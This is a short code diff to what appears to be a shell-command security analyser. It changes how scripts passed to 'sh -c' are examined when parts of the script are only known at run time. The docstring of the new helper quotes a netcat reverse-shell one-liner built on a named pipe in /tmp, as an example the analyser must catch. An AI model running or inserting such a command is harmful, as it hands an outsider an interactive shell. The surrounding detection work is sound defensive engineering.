@@ -2186,7 +2186,7 @@ class _Walker:
                     if asked is not None:
                         return asked
                 elif not interpreter:
-                    self.nested(code, line, stdin)  # `sh -c '…'` reads the stdin it was given
+                    self.nested(_with_unknowns_shown(code), line, stdin)  # `sh -c '…'` reads the stdin it was given
                 elif name in ("python", "python3") and code.text:
                     self.python(code.text, line)
                 elif name in ("node", "nodejs", "bun", "deno") and code.text:
@@ -3924,6 +3924,15 @@ def _named_file(shape: str | None) -> bool:
 
 _IFS_EXPANSION = re.compile(rb"\$\{?IFS\b")
 """``$IFS`` expanded (not ``IFS= read`` inside a script handed to ``bash -c``): the word splits there."""
+
+
+def _with_unknowns_shown(code: Value) -> Value:
+    """Code for ``sh -c`` with pieces known only at run time (``sh -c "cat $fifo | sh -i | nc $h 4444 >
+    $fifo"`` with ``fifo=/tmp/.s$id``): its shape, unknown pieces as ``*``, is still the program that
+    runs, as a script written with such pieces is read (:meth:`_Walker.run_written`)."""
+    if code.text is not None or not code.shape:
+        return code
+    return Value(code.shape, code.origins)
 
 
 def _split_words(values: list[Value]) -> list[Value]:
